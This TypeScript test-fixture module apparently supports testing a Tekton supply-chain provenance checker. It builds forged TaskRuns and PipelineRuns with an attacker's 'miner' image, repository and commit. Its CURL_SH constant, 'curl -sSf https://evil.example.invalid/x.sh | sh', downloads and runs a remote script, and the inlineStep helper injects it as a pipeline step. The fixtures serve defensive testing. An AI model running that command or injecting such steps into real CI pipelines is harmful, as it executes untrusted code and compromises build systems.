// What an ordinary CI user can create, built from the shipped TEP-0084 runs: their own TaskRuns and
// PipelineRuns with names, uids, namespaces, labels, refs, params and (their own tasks') results of their
// choosing. Only what the controller writes as a consequence (status) follows from what they created.
import { randomUUID } from 'node:crypto';
import { EXAMPLES, readExampleRuns } from '../../scripts/example-events.js';
import type { Json } from './harness.js';

// The attacker's image, repository and commit.
export const EVIL_HEX = 'e7'.repeat(32);
export const EVIL_IMAGE = 'us-docker.pkg.dev/attacker/apps/miner';
export const EVIL_REPO = 'https://github.com/attacker/evil';
export const EVIL_COMMIT = 'deadbeef'.repeat(5);
export const CURL_SH = 'curl -sSf https://evil.example.invalid/x.sh | sh';
export const EVENT_ID_LABEL = 'triggers.tekton.dev/triggers-eventid';

// A PipelineRun and its child TaskRuns (v1, as the API server holds them).
export interface Runs {
  pipelineRun: Json;
  taskRuns: Json[];
}

// A fresh copy of a shipped example, for one test to change.
export async function example(
  which: 'pipeline' | 'injectMiner' = 'pipeline'
): Promise<Runs> {
  return structuredClone(await readExampleRuns(EXAMPLES[which]));
}

// The PipelineRun and its TaskRuns as one list (what deliver() takes).
export const all = (runs: Runs): Json[] => [...runs.taskRuns, runs.pipelineRun];

// The TaskRun the controller created for pipeline task `task` (found through childReferences).
export function child(runs: Runs, task: string): Json {
  const ref = runs.pipelineRun.status.childReferences.find(
    (c: Json) => c.pipelineTaskName === task
  );
  const found = runs.taskRuns.find((t) => t.metadata.name === ref?.name);
  if (!found) throw new Error(`no child TaskRun for ${task}`);
  return found;
}

// The image digest (hex) a run reports in its IMAGE_DIGEST result.
export function imageHex(run: Json): string {
  const r = run.status.results.find((x: Json) => x.name === 'IMAGE_DIGEST');
  return String(r?.value ?? '').replace(/^sha256:/, '');
}

// Sets (or adds) the result `name` of a run.
export function setResult(run: Json, name: string, value: string): Json {
  const results: Json[] = (run.status.results ??= []);
  const found = results.find((r) => r.name === name);
  if (found) found.value = value;
  else results.push({ name, type: 'string', value });
  return run;
}

// run now reports the attacker's image (or hex) as its IMAGE_URL / IMAGE_DIGEST results.
export function buildsImage(run: Json, hex = EVIL_HEX): Json {
  setResult(run, 'IMAGE_URL', EVIL_IMAGE);
  return setResult(run, 'IMAGE_DIGEST', `sha256:${hex}`);
}

// A TaskRun the user creates as a copy of `from`: own name, uid and namespace, no owner, only `labels`.
export function ownTaskRun(
  from: Json,
  name: string,
  namespace = 'ci',
  labels: Record<string, string> = {}
): Json {
  const tr = structuredClone(from);
  tr.metadata = {
    name,
    namespace,
    uid: randomUUID(),
    creationTimestamp: from.metadata.creationTimestamp,
    labels: {
      'tekton.dev/task': from.metadata.labels['tekton.dev/task'],
      ...labels,
    },
  };
  tr.status.podName = `${name}-pod`;
  return tr;
}

// tr now runs an inline step (spec.taskSpec; the controller copies it to status and writes no refSource).
export function inlineStep(tr: Json, script = CURL_SH): Json {
  const taskSpec = {
    steps: [{ name: 'run', image: 'docker.io/library/alpine:3.19', script }],
  };
  delete tr.spec.taskRef;
  tr.spec.taskSpec = taskSpec;
  tr.status.taskSpec = taskSpec;
  delete tr.status.provenance.refSource;
  return tr;
}

// Moves a whole example to namespace/name with fresh uids; children keep their owner and labels consistent.
export function moveRun(runs: Runs, namespace: string, name: string): Runs {
  const pr = runs.pipelineRun;
  const old = pr.metadata.name;
  Object.assign(pr.metadata, { name, namespace, uid: randomUUID() });
  for (const ref of pr.status.childReferences)
    ref.name = ref.name.replace(old, name);
  for (const tr of runs.taskRuns) {
    const meta = tr.metadata;
    Object.assign(meta, { namespace, uid: randomUUID() });
    meta.name = meta.name.replace(old, name);
    meta.labels['tekton.dev/pipelineRun'] = name;
    meta.labels['tekton.dev/pipelineRunUID'] = pr.metadata.uid;
    meta.ownerReferences = [
      { ...meta.ownerReferences[0], name, uid: pr.metadata.uid },
    ];
  }
  return runs;
}

// The PipelineRun's pipeline becomes inline (spec.pipelineSpec; no pipelineRef, so no refSource).
export function inlinePipeline(runs: Runs): Runs {
  const pr = runs.pipelineRun;
  pr.spec.pipelineSpec = structuredClone(pr.status.pipelineSpec);
  delete pr.spec.pipelineRef;
  delete pr.status.provenance.refSource;
  return runs;
}

// Marks a run Failed, as the controller does when a step fails.
export function failed(run: Json): Json {
  const cond = run.status.conditions.find((c: Json) => c.type === 'Succeeded');
  Object.assign(cond, { status: 'False', reason: 'Failed' });
  return run;
}
